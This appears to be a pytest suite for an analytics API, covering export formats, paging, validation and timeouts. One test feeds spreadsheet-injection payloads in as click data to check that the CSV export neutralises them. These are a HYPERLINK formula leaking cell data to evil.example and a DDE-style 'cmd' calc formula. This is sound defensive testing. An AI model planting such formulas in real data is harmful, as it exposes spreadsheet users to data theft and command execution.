"""HTTP routes of analytics: scope, validation errors, JSON shapes, streamed export, OpenAPI."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from urllib.parse import quote
from zoneinfo import available_timezones

import asyncpg
import httpx
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from starlette.applications import Starlette

from api.app import create_app
from api.openapi import openapi_document
from api.routes import analytics as routes
from api.services.context import ServiceContext
from api.services.keys import create_key
from api.services.workspaces import Workspace
from h0p_settings import Settings
from tests.api.conftest import client_for, running
from tests.api.test_analytics_service import GB, US
from tests.ingest.conftest import CHROME, click, make_link, store_clicks

CHROME_UA_OF_FIXTURE = CHROME


@pytest.fixture(scope="module")
async def app(api_settings: Settings) -> AsyncIterator[Starlette]:
    async with running(create_app(api_settings)) as application:
        yield application


@pytest.fixture
async def client(
    app: Starlette, ctx: ServiceContext, workspace: Workspace, api_settings: Settings, pool: asyncpg.Pool
) -> AsyncIterator[httpx.AsyncClient]:
    link = await make_link(pool, workspace.id)
    now = datetime.now(UTC)
    # the two GB clicks, a minute apart, on one UTC day: one visitor (the hash is per day) at any hour
    gb = now - timedelta(hours=2)
    if (gb - timedelta(minutes=1)).date() != gb.date():
        gb += timedelta(minutes=1)
    await store_clicks(api_settings, [
        click(link, ts=(now - timedelta(hours=1)).timestamp(), ip=US),
        click(link, ts=gb.timestamp(), ip=GB),
        click(link, ts=(gb - timedelta(minutes=1)).timestamp(), ip=GB, method="HEAD"),
    ])  # fmt: skip
    _, secret = await create_key(ctx, workspace.id, "analytics", ["analytics:read"])
    async with client_for(app, secret) as c:
        yield c


async def test_analytics_groups_clicks_of_the_callers_workspace(client: httpx.AsyncClient) -> None:
    r = await client.get("/analytics", params={"groupBy": "countries", "interval": "7d"})
    assert r.status_code == 200
    assert r.json() == [{"country": "GB", "clicks": 1}, {"country": "US", "clicks": 1}]
    r = await client.get("/analytics", params={"includeBots": "true", "unique": "true"})
    assert r.json() == {"clicks": 3, "visitors": 2}
    series = (await client.get("/analytics", params={"groupBy": "timeseries", "timezone": "Asia/Tokyo"})).json()
    assert len(series) in (24, 25) and sum(p["clicks"] for p in series) == 2
    assert series[0]["start"].endswith("+09:00")


async def test_bad_parameters_answer_400_with_the_parameter_named(client: httpx.AsyncClient) -> None:
    for params, path in (({"groupBy": "planets"}, "groupBy"), ({"timezone": "Nowhere/City"}, "timezone")):
        r = await client.get("/analytics", params=params)
        assert r.status_code == 400
        body = r.json()["error"]
        assert body["code"] == "VALIDATION_ERROR" and body["details"][0]["path"] == path


async def test_events_are_paginated_newest_first(client: httpx.AsyncClient) -> None:
    r = await client.get("/analytics/events", params={"limit": 1, "page": 1, "includeBots": "true"})
    body = r.json()
    assert (body["total"], body["page"], body["limit"], len(body["data"])) == (3, 1, 1, 1)
    assert body["data"][0]["country"] == "GB" and body["data"][0]["ip"] is None
    assert (await client.get("/analytics/events", params={"limit": 51})).status_code == 400


async def test_export_streams_csv_and_ndjson(client: httpx.AsyncClient) -> None:
    r = await client.get("/analytics/export", params={"format": "csv", "interval": "7d"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.text.splitlines()[0].startswith("id,timestamp,linkId") and len(r.text.splitlines()) == 3
    r = await client.get("/analytics/export", params={"format": "ndjson", "includeBots": "true"})
    rows = [json.loads(line) for line in r.text.splitlines()]
    assert len(rows) == 3 and [x["bot"] for x in rows] == [True, False, False]
    assert (await client.get("/analytics/export", params={"format": "xml"})).status_code == 400


async def test_analytics_needs_the_analytics_read_scope(
    app: Starlette, ctx: ServiceContext, workspace: Workspace
) -> None:
    _, secret = await create_key(ctx, workspace.id, "links only", ["links:read"])
    async with client_for(app, secret) as c:
        for path in ("/analytics", "/analytics/events", "/analytics/export"):
            assert (await c.get(path)).status_code == 403
    async with client_for(app, None) as c:
        assert (await c.get("/analytics")).status_code == 401


def test_routes_are_documented_in_openapi() -> None:
    doc = openapi_document(routes.ENDPOINTS)
    assert {"/analytics", "/analytics/events"} <= set(doc["paths"])
    names = {p["name"] for p in doc["paths"]["/analytics"]["get"]["parameters"]}
    assert {"groupBy", "interval", "timezone", "utm_source", "includeBots", "unique"} <= names
    assert "/analytics/export" in routes.OPENAPI_PATHS


# --- one spelling per value: null for unknown, true/false, utm_* as on links ------------------------


async def test_unknown_values_are_null_and_utm_fields_are_named_as_on_links_in_every_answer(
    client: httpx.AsyncClient,
) -> None:
    # the fixture's clicks have no referrer and no UTM: unknown everywhere
    ranked = (await client.get("/analytics", params={"groupBy": "utm_sources"})).json()
    assert ranked == [{"utm_source": None, "clicks": 2}]
    assert (await client.get("/analytics", params={"groupBy": "referers"})).json() == [{"referer": None, "clicks": 2}]
    event = (await client.get("/analytics/events")).json()["data"][0]
    assert {"utm_source", "utm_medium", "utm_campaign", "utm_term", "utm_content"} <= set(event)
    assert not {k for k in event if k.startswith("utmS")}
    assert event["referer"] is None and event["refererUrl"] is None and event["utm_source"] is None
    line = (await client.get("/analytics/export", params={"format": "ndjson"})).text.splitlines()[0]
    assert json.loads(line)["referer"] is None and json.loads(line)["utm_campaign"] is None


async def test_export_csv_spells_booleans_true_false_and_unknown_as_empty(client: httpx.AsyncClient) -> None:
    r = await client.get("/analytics/export", params={"format": "csv", "includeBots": "true"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 3
    assert sorted(row["bot"] for row in rows) == ["false", "false", "true"]
    assert {row["qr"] for row in rows} == {"false"}
    assert {row["referer"] for row in rows} == {""} and {row["utm_source"] for row in rows} == {""}


def test_openapi_names_utm_fields_as_links_do_and_documents_the_cursor() -> None:
    doc = openapi_document(routes.ENDPOINTS)
    event = doc["components"]["schemas"]["ClickEventOut"]["properties"]
    assert {"utm_source", "utm_medium", "utm_campaign", "utm_term", "utm_content"} <= set(event)
    assert not any(name.startswith("utm") and "_" not in name for name in event)
    assert event["country"].get("nullable") is True
    names = {p["name"] for p in doc["paths"]["/analytics/events"]["get"]["parameters"]}
    assert {"cursor", "page", "limit"} <= names
    assert "nextCursor" in doc["components"]["schemas"]["EventList"]["properties"]


# --- spreadsheet safety of the CSV export --------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


async def test_export_csv_neutralises_visitor_text_that_a_spreadsheet_would_run(
    client: httpx.AsyncClient, workspace: Workspace, api_settings: Settings, pool: asyncpg.Pool
) -> None:
    link = await make_link(pool, workspace.id)
    domain = f"go-{workspace.id.lower()[-8:]}.example"
    await pool.execute(
        "INSERT INTO domains (id, workspace_id, hostname, verification_token) VALUES ($1, $2, $3, 't')",
        f"dom_{workspace.id}", workspace.id, domain,
    )  # fmt: skip
    utm = "utm_source=" + quote(FORMULA) + "&utm_medium=%2Bcmd%7C'%2FC%20calc'!A0&utm_campaign=-2%2B3"
    await store_clicks(api_settings, [
        click(link, ip=US, ua=FORMULA, referer="=1+2", query=utm),
        click(None, ip=US, domain=domain, slug="@SUM(1+1)", ua="\tTAB"),  # an orphan: the slug is the visitor's
    ])  # fmt: skip
    # a user agent like these is no browser: the clicks count as bots, and exports include them on request
    r = await client.get("/analytics/export", params={"format": "csv", "includeBots": "true"})
    rows = [row for row in csv.DictReader(io.StringIO(r.text)) if row["ua"] != CHROME_UA_OF_FIXTURE]
    by_slug = {row["slug"]: row for row in rows}
    hit, orphan = by_slug[link["slug"]], by_slug["'@SUM(1+1)"]
    assert hit["ua"] == "'" + FORMULA
    assert hit["utm_source"] == "'" + FORMULA
    assert hit["utm_medium"] == "'+cmd|'/C calc'!A0"
    assert hit["utm_campaign"] == "'-2+3"
    assert orphan["ua"] == "'\tTAB"
    for row in rows:  # no text cell of the export starts a formula (a negative longitude is a number)
        text = [cell for cell in row.values() if not _is_number(cell)]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in text), row
    # NDJSON is data, not a spreadsheet: the values as stored
    ndjson = await client.get("/analytics/export", params={"format": "ndjson", "includeBots": "true"})
    nd = [json.loads(line) for line in ndjson.text.splitlines()]
    assert FORMULA in {e["ua"] for e in nd} and "@SUM(1+1)" in {e["slug"] for e in nd}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --- cursor paging --------------------------------------------------------------------------------


async def test_events_cursor_pages_neither_repeat_nor_skip_while_clicks_arrive(
    client: httpx.AsyncClient, workspace: Workspace, api_settings: Settings, pool: asyncpg.Pool
) -> None:
    params = {"includeBots": "true", "limit": 2}
    first = (await client.get("/analytics/events", params=params)).json()
    assert len(first["data"]) == 2 and first["nextCursor"]
    # two newer clicks land between the pages: with OFFSET, page 1 would show a row of page 0 again
    link = await make_link(pool, workspace.id)
    await store_clicks(api_settings, [click(link, ip=US), click(link, ip=GB)])
    second = (await client.get("/analytics/events", params={**params, "cursor": first["nextCursor"]})).json()
    assert second["total"] == 5 and second["nextCursor"] is None
    seen = [e["id"] for e in first["data"] + second["data"]]
    assert len(seen) == len(set(seen)) == 3  # the three clicks there were, each once
    assert [e["timestamp"] for e in first["data"] + second["data"]] == sorted(
        (e["timestamp"] for e in first["data"] + second["data"]), reverse=True
    )
    offset_page = (await client.get("/analytics/events", params={**params, "page": 1})).json()
    assert offset_page["data"][0]["id"] in {e["id"] for e in first["data"]}  # why the cursor exists


async def test_bad_cursors_and_deep_offsets_are_validation_errors(client: httpx.AsyncClient) -> None:
    for params, path in (
        ({"cursor": "not-a-cursor"}, "cursor"),
        ({"cursor": "MTIz"}, "cursor"),
        ({"cursor": "x" * 201}, "cursor"),
        ({"page": 1001, "limit": 10}, "page"),
    ):
        r = await client.get("/analytics/events", params=params)
        assert r.status_code == 400, (params, r.text)
        assert r.json()["error"]["code"] == "VALIDATION_ERROR" and r.json()["error"]["details"][0]["path"] == path


# --- absurd inputs are 400s, never 500s -------------------------------------------------------------


async def test_dates_beyond_any_click_are_clamped_and_unanswerable_series_refused(client: httpx.AsyncClient) -> None:
    ancient = await client.get("/analytics", params={"start": "0001-01-01T00:00:00+05:00"})
    assert ancient.status_code == 200 and ancient.json() == {"clicks": 2}
    far = await client.get("/analytics", params={"end": "9999-12-31T23:59:59-05:00", "groupBy": "timeseries"})
    assert far.status_code == 200 and len(far.json()) == 24  # the 24 h before the clamped end
    huge = await client.get(
        "/analytics", params={"start": "2020-01-01", "end": "9999-12-31T23:59:59", "groupBy": "timeseries"}
    )
    assert huge.status_code == 400
    assert huge.json()["error"]["code"] == "VALIDATION_ERROR" and huge.json()["error"]["details"][0]["path"] == "end"
    everything = await client.get("/analytics", params={"start": "0001-01-01", "end": "9999-12-31"})
    assert everything.status_code == 200 and everything.json() == {"clicks": 2}
    for tz in ("posixrules", "Factory/../UTC", "America"):
        r = await client.get("/analytics", params={"timezone": tz, "groupBy": "timeseries"})
        assert r.status_code == 400 and r.json()["error"]["details"][0]["path"] == "timezone", tz


_ZONES = sorted(available_timezones())
_OFFSETS = ["", "Z", "+05:00", "-05:00", "+14:00", "-12:00", "+23:59"]
_instants = st.one_of(
    # the edges of what Python can hold, shifted by an offset past them
    st.builds(
        "{:04d}-{:02d}-{:02d}T{}{}".format,
        st.sampled_from([1, 9999]) | st.integers(1, 9999),
        st.sampled_from([1, 12]) | st.integers(1, 12),
        st.sampled_from([1, 31]) | st.integers(1, 28),
        st.sampled_from(["00:00:00", "23:59:59"]) | st.times().map(str),
        st.sampled_from(_OFFSETS),
    ),
    st.datetimes(timezones=st.none() | st.timezones()).map(lambda d: d.isoformat()),
    st.dates().map(str),
    st.text(max_size=30),
)


@given(
    start=st.none() | _instants,
    end=st.none() | _instants,
    interval=st.none() | st.sampled_from(["24h", "7d", "30d", "90d", "1y", "mtd", "ytd", "all", "2w", ""]),
    timezone=st.none() | st.sampled_from(_ZONES) | st.text(max_size=20),
    group_by=st.sampled_from(["count", "timeseries", "countries", "top_links"]),
)
@hsettings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck), database=None, derandomize=True)
async def test_no_date_range_time_zone_or_interval_is_a_server_error(
    client: httpx.AsyncClient,
    start: str | None,
    end: str | None,
    interval: str | None,
    timezone: str | None,
    group_by: str,
) -> None:
    given_params = {"start": start, "end": end, "interval": interval, "timezone": timezone, "groupBy": group_by}
    params = {k: v for k, v in given_params.items() if v is not None}
    for path in ("/analytics", "/analytics/events"):
        query = params if path == "/analytics" else {k: v for k, v in params.items() if k != "groupBy"}
        r = await client.get(path, params=query)
        assert r.status_code in (200, 400), (path, query, r.status_code, r.text)
        if r.status_code == 400:
            assert r.json()["error"]["code"] == "VALIDATION_ERROR"


# --- statement timeout ----------------------------------------------------------------------------


async def test_an_analytics_query_past_the_statement_timeout_is_cut_and_answered_503(
    api_settings: Settings, ctx: ServiceContext, workspace: Workspace, pool: asyncpg.Pool
) -> None:
    _, secret = await create_key(ctx, workspace.id, "analytics", ["analytics:read"])
    quick = dataclasses.replace(api_settings, analytics_statement_timeout_ms=300)
    async with running(create_app(quick)) as app, client_for(app, secret) as c, pool.acquire() as blocker:
        # a lock the queries must wait for stands in for a query too heavy to finish
        locked = blocker.transaction()
        await locked.start()
        await blocker.execute("LOCK TABLE clicks, click_rollups IN ACCESS EXCLUSIVE MODE")
        try:
            answers = [
                await c.get("/analytics", params={"groupBy": "countries", "country": "US"}),
                await c.get("/analytics", params={"groupBy": "timeseries", "interval": "7d"}),
                await c.get("/analytics/events"),
            ]
        finally:
            await locked.rollback()
        for r in answers:
            assert r.status_code == 503, r.text
            assert r.json()["error"]["code"] == "QUERY_TIMEOUT"
        assert (await c.get("/analytics/events")).status_code == 200  # and its connection went back to work
